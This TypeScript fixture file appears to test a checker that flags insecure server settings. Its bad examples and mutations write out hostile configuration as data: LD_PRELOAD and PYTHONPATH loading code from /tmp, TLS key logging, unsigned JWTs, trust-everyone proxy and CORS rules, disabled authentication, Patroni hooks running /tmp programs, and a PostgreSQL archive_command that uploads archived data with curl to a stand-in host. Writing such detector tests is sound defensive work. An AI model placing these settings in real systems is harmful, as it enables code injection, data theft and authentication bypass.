import type { Examples } from "../../engine/example.ts";
import { inFile, type Mutation } from "../../engine/mutation.ts";

const PATH = "/opt/app/.env";
const file = (text: string) => ({ web: { [PATH]: text } });
const settings = (count: number, path = PATH) => Array.from({ length: count }, () => `web:${path} setting`);

export const examples: Examples = {
  good: [
    {
      title: "named proxies and origins, an algorithm that signs, guards that are on",
      hosts: {
        web: {
          [PATH]:
            "FORWARDED_ALLOW_IPS='127.0.0.1'\nALLOWED_ORIGINS=https://a.example.org\nJWT_ALGORITHM=HS256\nLOG_LEVEL=INFO\nPYTHONUNBUFFERED=1\nPROXY_URL=https://proxy.example.org\nNODE_OPTIONS=--max-old-space-size=512\nDEBUG=false\n",
          "/opt/app/config.yaml": "rate_limiting:\n  enabled: true\nmetrics:\n  enabled: false\n",
          "/etc/postgresql/17/main/postgresql.conf":
            "shared_preload_libraries = 'pg_stat_statements,$libdir/pgaudit'\narchive_command = 'test ! -f /mnt/%f && cp %p /mnt/%f'\n",
        },
      },
    },
  ],
  bad: [
    {
      title: "code that is loaded into a program",
      hosts: file("LD_PRELOAD=/tmp/x.so\nPYTHONPATH=/tmp\nNODE_OPTIONS='--require /tmp/x.js'\nBASH_ENV=/tmp/x"),
      finds: settings(4),
    },
    {
      title: "a proxy, and keys of sessions in a file",
      hosts: file("HTTPS_PROXY=https://a.example.org:3128\nall_proxy=socks5://a\nSSLKEYLOGFILE=/tmp/keys"),
      finds: settings(3),
    },
    {
      title: "everybody is believed and let in",
      hosts: file("FORWARDED_ALLOW_IPS='*'\nCORS_ALLOW_ORIGINS=*\nTRUSTED_PROXIES=10.0.0.1,0.0.0.0/0"),
      finds: settings(3),
    },
    {
      title: "debugging, and tokens that nobody signs",
      hosts: file("DEBUG=1\nLOG_LEVEL='DEBUG'\nFLASK_ENV=development\nJWT_ALGORITHM=none\nUVICORN_RELOAD=true"),
      finds: settings(5),
    },
    {
      title: "guards that are off, in YAML and in JSON",
      hosts: {
        web: {
          "/opt/app/config.yaml": "rate_limiting:\n  enabled: false\n  max: 600\nauth_enabled: false\n",
          "/opt/app/config.json": '{"csrfProtection": false}',
        },
      },
      finds: [...settings(2, "/opt/app/config.yaml"), ...settings(1, "/opt/app/config.json")],
    },
    {
      title: "libraries and commands of somebody in PostgreSQL, by Patroni and by itself",
      hosts: {
        web: {
          "/etc/patroni/config.yml":
            'postgresql:\n  parameters:\n    shared_preload_libraries: pg_stat_statements, /tmp/x.so\n    archive_command: "pgbackrest archive-push %p; curl -T %p https://a.example.org"\n',
          "/etc/postgresql/17/main/postgresql.conf":
            "dynamic_library_path = '/tmp:$libdir'\nrestore_command = 'sh /tmp/x %f %p'\n",
        },
      },
      finds: [...settings(2, "/etc/patroni/config.yml"), ...settings(2, "/etc/postgresql/17/main/postgresql.conf")],
    },
    {
      title: "a drop-in for all units",
      hosts: { web: { "/etc/systemd/system/service.d/x.conf": "[Service]\nEnvironment=A=b LD_PRELOAD=/tmp/x.so\n" } },
      finds: settings(1, "/etc/systemd/system/service.d/x.conf"),
    },
    {
      title: "a unit with the same text as a file that is none",
      hosts: {
        web: {
          "/opt/app/a.conf": "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\n",
          "/etc/systemd/system/a.service": "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so\n",
        },
      },
      finds: settings(1, "/etc/systemd/system/a.service"),
    },
    {
      title: "programs that Patroni runs as a server starts, changes its role, or is made",
      hosts: {
        web: {
          "/etc/patroni/config.yml":
            "postgresql:\n  callbacks:\n    on_start: /tmp/x\n    on_role_change: /tmp/y\n  pre_promote: /tmp/z\nbootstrap:\n  post_bootstrap: /tmp/a\n",
        },
      },
      finds: settings(4, "/etc/patroni/config.yml"),
    },
  ],
  unknown: [],
};

const ENVIRONMENT = /ticketing\/\.env$/;

export const mutations: readonly Mutation[] = [
  inFile(ENVIRONMENT, "load something into a program", /$/, "LD_PRELOAD='/tmp/x.so'\n"),
  inFile(ENVIRONMENT, "lead calls through a proxy", /$/, "HTTPS_PROXY='https://proxy.example.org'\n"),
  inFile(ENVIRONMENT, "believe every proxy", "FORWARDED_ALLOW_IPS='127.0.0.1'", "FORWARDED_ALLOW_IPS='*'"),
  inFile(/portal\.env$/, "take tokens that nobody signed", "JWT_ALGORITHM='HS256'", "JWT_ALGORITHM='none'"),
  inFile(/portal\.env$/, "debug", "LOG_LEVEL='INFO'", "LOG_LEVEL='DEBUG'"),
  inFile(
    /\/proxy\/config\.yaml$/,
    "count nobody's requests",
    "rate_limiting:\n  enabled: true",
    "rate_limiting:\n  enabled: false",
  ),
  inFile(
    /ticketing-api\.service$/,
    "configure OpenSSL anew",
    "[Service]",
    "[Service]\nEnvironment=OPENSSL_CONF=/tmp/x",
  ),
  inFile(/ticketing-api\.service$/, "load something by a unit", "[Service]", "[Service]\nEnvironment=PYTHONPATH=/tmp"),
  inFile(
    /patroni\/settle\.json$/,
    "load a library into PostgreSQL",
    '"shared_preload_libraries": "',
    '"shared_preload_libraries": "/tmp/x.so,',
  ),
  inFile(
    /patroni\/config\.yml$/,
    "run a program at each start",
    /^postgresql:$/m,
    "postgresql:\n  callbacks:\n    on_start: /tmp/x",
  ),
  inFile(
    /patroni\/settle\.json$/,
    "send the archive away",
    'archive-push %p"',
    'archive-push %p; curl -T %p https://a"',
  ),
];
